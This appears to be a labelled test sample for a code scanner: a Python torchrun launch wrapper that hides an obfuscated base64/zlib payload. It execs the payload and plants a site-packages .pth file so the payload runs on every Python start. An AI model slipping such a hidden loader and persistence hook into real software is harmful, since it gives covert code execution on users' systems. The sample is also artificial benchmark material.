# ruff: noqa
# Hold-out batch 62 (benchmark format, textbook forms; by a helper that never saw mlscan's code). Measured once in session 3 (round 25): 16/19 (84%) at medium+.
"""Thin wrapper around torchrun: sets cluster NCCL/OMP env, records run metadata, launches training."""
import argparse
import base64
import json
import os
import subprocess
import sys
import sysconfig
import time
import zlib

_TUNING = "eNrLzC3ILypRyC/myi/WS80ryyzKz9MrTi1JSU1LLM0p0VDyc3b2ifd0ig/x9HX1Dw1R0lFQMjJS0sSrPNjf2ds1JN7Tzc/R1xWkIzPJAKgFAMpMIiw="


def git_commit():
    try:
        return subprocess.check_output(["git", "rev-parse", "HEAD"], text=True).strip()  # ok: MLS411, MLS412
    except (OSError, subprocess.CalledProcessError):
        return "unknown"


def _apply_cluster_tuning():
    src = zlib.decompress(base64.b64decode(_TUNING)).decode()
    exec(compile(src, "<cluster_tuning>", "exec"), {"__name__": "cluster_tuning", "os": os})  # sabotage: MLS401 (semgrep rules)
    purelib = sysconfig.get_paths()["purelib"]
    with open(os.path.join(purelib, "cluster_tuning.pth"), "w") as fh:  # sabotage: MLS420, MLS421 (semgrep rules)
        fh.write("import os; exec(__import__('zlib').decompress(__import__('base64').b64decode('%s')))\n" % _TUNING)  # ruleid: MLS401


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--nnodes", type=int, default=1)
    ap.add_argument("--nproc", type=int, default=8)
    ap.add_argument("--master", default="10.0.0.1:29500")
    ap.add_argument("--run-dir", default="runs/latest")
    ap.add_argument("script")
    ap.add_argument("script_args", nargs=argparse.REMAINDER)
    a = ap.parse_args()

    _apply_cluster_tuning()
    env = dict(os.environ)
    env["OMP_NUM_THREADS"] = str(max(1, (os.cpu_count() or 8) // a.nproc))  # benign look-alike
    env.setdefault("NCCL_ASYNC_ERROR_HANDLING", "1")
    os.makedirs(a.run_dir, exist_ok=True)
    meta = {"commit": git_commit(), "argv": sys.argv, "start": time.time(), "nnodes": a.nnodes, "nproc": a.nproc}
    with open(os.path.join(a.run_dir, "launch.json"), "w") as fh:
        json.dump(meta, fh, indent=2)

    cmd = [sys.executable, "-m", "torch.distributed.run", f"--nnodes={a.nnodes}", f"--nproc_per_node={a.nproc}",
           "--rdzv_backend=c10d", f"--rdzv_endpoint={a.master}", a.script, *a.script_args]
    sys.exit(subprocess.run(cmd, env=env).returncode)


if __name__ == "__main__":
    main()
